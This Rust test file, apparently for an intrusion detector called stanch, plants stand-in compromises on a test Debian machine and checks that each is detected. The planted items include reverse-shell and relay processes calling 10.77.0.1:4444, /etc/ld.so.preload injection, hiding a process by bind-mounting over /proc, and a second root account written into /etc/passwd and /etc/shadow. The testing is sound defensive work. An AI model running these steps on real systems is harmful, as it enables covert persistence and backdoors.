//! `stanch detect` on a real Debian with real daemons: clean when it is clean, and every stand-in
//! found by pid or path.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test fails by panicking")]

use serde_json::Value;
use stanch_range::{Victim, debian, possible};

/// Returns sign, level and subject of each finding above `low`.
fn grave(document: &Value) -> Vec<String> {
    document["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| !matches!(finding["level"].as_str().unwrap(), "info" | "low"))
        .map(|finding| {
            format!(
                "{} {} {} {}",
                finding["level"], finding["sign"], finding["entity"], finding["seen"]
            )
        })
        .collect()
}

fn assert_clean(document: &Value, code: i32) {
    assert_eq!(grave(document), Vec::<String>::new());
    assert_eq!(document["verdict"], "clean");
    assert_eq!(code, 0, "gaps: {:#}", document["gaps"]);
}

#[test]
fn a_clean_debian_with_daemons_is_clean_live_and_as_a_root() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    let (document, code) = victim.stanch(&["detect"]).unwrap();
    assert_clean(&document, code);
    let (document, code) = victim.stanch(&["--root", "/", "detect"]).unwrap();
    assert_clean(&document, code);
}

/// One stand-in: what it is, how it starts inside, and the sign that must name its pid.
struct StandIn {
    name: &'static str,
    prepare: &'static str,
    start: &'static str,
    sign: &'static str,
}

/// Everything that shows as a process. `STAND` is the stand-in's program inside.
const STAND_INS: &[StandIn] = &[
    StandIn {
        name: "reverse-shell",
        prepare: "",
        start: "/run/range/stand-in socket-shell 10.77.0.1:4444",
        sign: "processes.shell-on-a-socket",
    },
    StandIn {
        name: "pipe-relay",
        prepare: "",
        start: "/run/range/stand-in pipe-relay 10.77.0.1:4444",
        sign: "processes.shell-behind-a-relay",
    },
    StandIn {
        name: "deleted",
        prepare: "cp /run/range/stand-in /usr/sbin/agentd",
        start: "/usr/sbin/agentd sleep",
        sign: "processes.deleted-program",
    },
    StandIn {
        name: "memfd",
        prepare: "",
        start: "/run/range/stand-in memfd",
        sign: "processes.program-without-a-file",
    },
    StandIn {
        name: "fake-kernel-thread",
        prepare: "cp /run/range/stand-in /usr/local/bin/upd",
        start: "/usr/local/bin/upd named [kworker/0:3]",
        sign: "processes.fake-kernel-thread",
    },
    StandIn {
        name: "false-name",
        prepare: "cp /run/range/stand-in /usr/local/bin/upd2",
        start: "/usr/local/bin/upd2 named /usr/sbin/cron",
        sign: "processes.false-name",
    },
    StandIn {
        name: "burner",
        prepare: "cp /run/range/stand-in /tmp/update",
        start: "/tmp/update burn",
        sign: "performance.untrusted-cpu-hog",
    },
    StandIn {
        name: "hidden-burner",
        prepare: "mkdir -p /opt/h /mnt/empty; cp /run/range/stand-in /opt/h/h",
        start: "/opt/h/h burn",
        sign: "processes.hidden-process",
    },
    StandIn {
        name: "preloaded",
        prepare: "cp /run/range/empty.so /usr/lib/libhelper.so; kill $(cat /run/crond.pid); sleep 0.3",
        start: "sh -c 'echo $$ >/run/preloaded.pid; LD_PRELOAD=/usr/lib/libhelper.so exec /usr/sbin/cron -f -L 0'",
        sign: "processes.preloaded-library",
    },
    StandIn {
        name: "packet-socket",
        prepare: "cp /run/range/stand-in /usr/local/sbin/pktd",
        start: "/usr/local/sbin/pktd packet",
        sign: "traffic.packet-socket",
    },
    StandIn {
        name: "listener",
        prepare: "cp /run/range/stand-in /usr/sbin/netd",
        start: "/usr/sbin/netd listen 31337",
        sign: "traffic.foreign-listener",
    },
    StandIn {
        name: "ebpf",
        prepare: "cp /run/range/stand-in /usr/local/sbin/probed",
        start: "/usr/local/sbin/probed bpf",
        sign: "processes.ebpf-of-nobody",
    },
];

/// Returns the signs at level high or above that name a pid.
fn signs_of(document: &Value, pid: i64) -> Vec<String> {
    signs(document, |finding| finding["entity"]["pid"] == pid)
}

fn signs(document: &Value, about: impl Fn(&Value) -> bool) -> Vec<String> {
    let findings = document["findings"].as_array().unwrap().iter();
    findings
        .filter(|finding| matches!(finding["level"].as_str().unwrap(), "high" | "critical"))
        .filter(|finding| about(finding))
        .map(|finding| finding["sign"].as_str().unwrap().to_owned())
        .collect()
}

/// Builds a shared library that holds nothing at all.
fn empty_library(victim: &Victim) {
    let path = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("empty.so");
    let built = std::process::Command::new("cc")
        .args(["-shared", "-nostdlib", "-x", "c", "/dev/null", "-o"])
        .arg(&path)
        .status()
        .unwrap();
    assert!(built.success());
    victim.put(&path, "/run/range/empty.so").unwrap();
}

#[test]
fn each_stand_in_is_found_and_afterwards_the_machine_is_clean() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    empty_library(&victim);
    let mut sink = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let mut pids = Vec::new();
    for stand_in in STAND_INS {
        if !stand_in.prepare.is_empty() {
            victim.shell(stand_in.prepare).unwrap();
        }
        pids.push((stand_in, victim.start(stand_in.name, stand_in.start).unwrap()));
    }
    let pid = |name| pids.iter().find(|(stand_in, _)| stand_in.name == name).unwrap().1;
    let hidden = pid("hidden-burner");
    victim.shell("rm /usr/sbin/agentd; echo /usr/lib/libhelper.so > /etc/ld.so.preload").unwrap();
    victim.shell(&format!("mount --bind /mnt/empty /proc/{hidden}")).unwrap();

    let (document, code) = victim.stanch(&["detect"]).unwrap();
    let mut missed = Vec::new();
    for (stand_in, pid) in &pids {
        let found = signs_of(&document, *pid);
        let named = found.iter().any(|sign| sign == stand_in.sign);
        println!("{} (pid {pid}): {}", stand_in.name, found.join(", "));
        if !named {
            missed.push(format!("{}: expected {}, found {found:?}", stand_in.name, stand_in.sign));
        }
    }
    let preload = signs(&document, |f| f["entity"]["path"] == "/etc/ld.so.preload");
    let works = signs_of(&document, hidden);
    for (what, sign, found) in [
        ("ld.so.preload", "files.loader-preload", preload),
        ("hidden CPU use", "performance.hidden-process-works", works),
    ] {
        println!("{what}: {}", found.join(", "));
        if !found.iter().any(|s| s == sign) {
            missed.push(format!("{what}: expected {sign}, found {found:?}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    assert_eq!(document["verdict"], "compromised");
    assert_eq!(code, 1);

    victim.shell(&format!("umount /proc/{hidden}; rm /etc/ld.so.preload")).unwrap();
    for (_, pid) in &pids {
        victim.shell(&format!("kill -9 {pid} 2>/dev/null || true")).unwrap();
    }
    sink.kill().unwrap();
    sink.wait().unwrap();
    let files = "/usr/sbin/netd /usr/local/bin/upd /usr/local/bin/upd2 /usr/local/sbin/pktd \
        /usr/local/sbin/probed /tmp/update /usr/lib/libhelper.so /opt/h /mnt/empty /run/range/empty.so";
    victim.shell(&format!("rm -r {files}")).unwrap();
    // The relay's own process ends when its shell is gone.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let (document, code) = victim.stanch(&["detect"]).unwrap();
    assert_clean(&document, code);
}

#[test]
fn a_second_root_and_an_empty_password_are_found_under_a_root() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    victim
        .shell(
            "echo 'sys:x:0:0::/root:/bin/bash' >>/etc/passwd; \
             echo 'sys:$6$abc$def:19000:0:99999:7:::' >>/etc/shadow; \
             echo 'guest:x:1001:1001::/home/guest:/bin/bash' >>/etc/passwd; \
             echo 'guest::19000:0:99999:7:::' >>/etc/shadow",
        )
        .unwrap();
    let (document, code) = victim.stanch(&["--root", "/", "detect"]).unwrap();
    for (account, sign) in
        [("sys", "logs.second-root-account"), ("guest", "logs.empty-or-weak-password")]
    {
        let found = signs(&document, |f| f["entity"]["name"] == account);
        assert!(found.iter().any(|s| s == sign), "{account}: {found:?}");
    }
    assert_eq!((document["verdict"].as_str().unwrap(), code), ("compromised", 1));
}

/// What a developer's machine shows that an intruder's would too, but for the context.
const INNOCENT: &[(&str, &str, &str)] = &[
    // A server of one's own, in a terminal.
    (
        "dev-server",
        "mkdir -p /home/dev/shop/target/debug; cp /run/range/stand-in /home/dev/shop/target/debug/shop",
        "script -qec '/home/dev/shop/target/debug/shop listen 3000' /dev/null",
    ),
    // A compiler at full speed, in a terminal.
    (
        "compiler",
        "mkdir -p /home/dev/.cargo/bin; cp /run/range/stand-in /home/dev/.cargo/bin/cargo",
        "script -qec 'nice /home/dev/.cargo/bin/cargo burn' /dev/null",
    ),
    // A runtime with a just-in-time compiler, put into /usr/local by hand.
    ("runtime", "cp /run/range/stand-in /usr/local/bin/node", "/usr/local/bin/node jit"),
    // An editor's server in a hidden folder of a home.
    (
        "editor-server",
        "mkdir -p /home/dev/.vscode-server/bin; cp /run/range/stand-in /home/dev/.vscode-server/bin/node",
        "/home/dev/.vscode-server/bin/node sleep",
    ),
];

#[test]
fn a_developer_machine_is_clean() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    for (name, prepare, start) in INNOCENT {
        victim.shell(prepare).unwrap();
        victim.start(name, start).unwrap();
    }
    // An upgrade replaced a daemon's file, with the same content here, and did not restart it.
    victim
        .shell("cp -a /usr/sbin/cron /usr/sbin/cron.new; mv /usr/sbin/cron.new /usr/sbin/cron")
        .unwrap();
    let (document, code) = victim.stanch(&["detect"]).unwrap();
    assert_clean(&document, code);
}

#[test]
fn a_file_system_that_hangs_is_a_gap_and_not_the_end() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    // A home and a folder of the system that never answer.
    victim
        .shell("mkdir -p /home/slow; echo 'slow:x:1002:1002::/home/slow:/bin/sh' >>/etc/passwd")
        .unwrap();
    victim.start("hang", "/run/range/stand-in hang /home/slow").unwrap();
    let (document, code) = victim.stanch(&["detect"]).unwrap();
    let gaps = document["gaps"].as_array().unwrap();
    let slow =
        |gap: &&Value| gap["path"].as_str().is_some_and(|path| path.starts_with("/home/slow"));
    assert!(gaps.iter().any(|gap| slow(&gap) && gap["kind"] == "timed-out"), "{gaps:#?}");
    assert_eq!(grave(&document), Vec::<String>::new());
    assert_eq!((document["verdict"].as_str().unwrap(), code), ("clean", 3));
}

#[test]
fn an_ordinary_user_sees_less_and_is_told_so() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    let ran = victim
        .run(&[
            "setpriv",
            "--reuid=1000",
            "--regid=1000",
            "--clear-groups",
            "/run/range/stanch",
            "detect",
            "--json",
        ])
        .unwrap();
    let document: Value = serde_json::from_str(&ran.out).unwrap();
    let gaps = document["gaps"].as_array().unwrap();
    assert!(gaps.iter().any(|gap| gap["kind"] == "denied"), "{gaps:#?}");
    assert_eq!(grave(&document), Vec::<String>::new());
    assert_eq!((document["verdict"].as_str().unwrap(), ran.code), ("clean", 3), "{}", ran.err);
}

/// In a pid namespace the host's CPU counters are not comparable with the processes seen, so the
/// gap itself is shown where only the mount namespace is our own.
#[test]
fn a_hidden_burner_leaves_a_gap_in_the_cpu_account() {
    if !possible() {
        return;
    }
    let _alone = stanch_range::alone();
    let binaries = stanch_range::binaries().unwrap();
    let script = "mount --make-rprivate /; mount -t tmpfs t /mnt; mkdir /mnt/empty; \
        $0/stand-in burn & burner=$!; trap 'kill $burner' EXIT; \
        mount --bind /mnt/empty /proc/$burner; sleep 0.3; echo $burner; \
        $0/stanch --json detect --only performance,processes";
    let output = std::process::Command::new("unshare")
        .args(["--mount", "sh", "-c", script])
        .arg(&binaries)
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    let (pid, json) = text.split_once('\n').unwrap();
    let document: Value = serde_json::from_str(json).unwrap();
    let found = signs_of(&document, pid.parse().unwrap());
    assert!(found.iter().any(|sign| sign == "processes.hidden-process"), "{found:?}");
    let host = signs(&document, |f| f["entity"]["kind"] == "host");
    assert!(host.iter().any(|sign| sign == "performance.hidden-cpu-use"), "{host:?} {document:#}");
}
